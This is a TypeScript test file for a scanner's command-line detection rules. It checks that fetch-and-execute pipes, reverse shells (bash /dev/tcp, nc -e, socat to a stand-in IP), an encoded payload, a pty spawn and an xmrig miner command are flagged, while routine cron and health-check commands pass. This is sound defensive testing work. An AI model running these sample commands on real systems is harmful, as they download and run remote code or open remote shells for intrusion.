import { classifyCommand } from '../../src/scan/rules/command-line.js';

const rules = (c: string) => classifyCommand(c).map((s) => s.rule);

describe('command-line rules', () => {
  it.each([
    ['curl -fsSL http://203.0.113.5/x.sh | sh', 'fetch-exec'],
    ['wget -q -O- http://203.0.113.5/x | bash', 'fetch-exec'],
    ['bash -c "$(curl -s http://203.0.113.5/i)"', 'fetch-exec'],
    ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'reverse-shell'],
    ['nc -e /bin/sh 198.51.100.7 4444', 'reverse-shell'],
    ['socat exec:"bash -li",pty tcp:198.51.100.7:4444', 'reverse-shell'],
    ['echo aGVsbG8= | base64 -d | sh', 'encoded-payload'],
    ['python3 -c "import pty;pty.spawn(\'/bin/sh\')"', 'inline-interpreter'],
    ['/tmp/.x/run', 'writable-dir'],
    ['/dev/shm/kworker', 'writable-dir'],
    ['/home/u/.cache2/.hidden/bin', 'hidden-path'],
    ['./xmrig --url stratum+tcp://pool.example.com:3333', 'miner'],
  ])('%s → %s', (cmd, rule) => {
    expect(rules(cmd)).toContain(rule);
  });

  it.each([
    'cd / && run-parts --report /etc/cron.hourly',
    '/home/deploy/app/.venv/bin/gunicorn --workers 3 app.wsgi',
    'test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }',
    '/usr/bin/python3 /usr/share/unattended-upgrades/unattended-upgrade-shutdown --wait-for-signal',
    'curl -fsS https://example.com/health',
  ])('benign: %s', (cmd) => {
    expect(rules(cmd)).toEqual([]);
  });
});
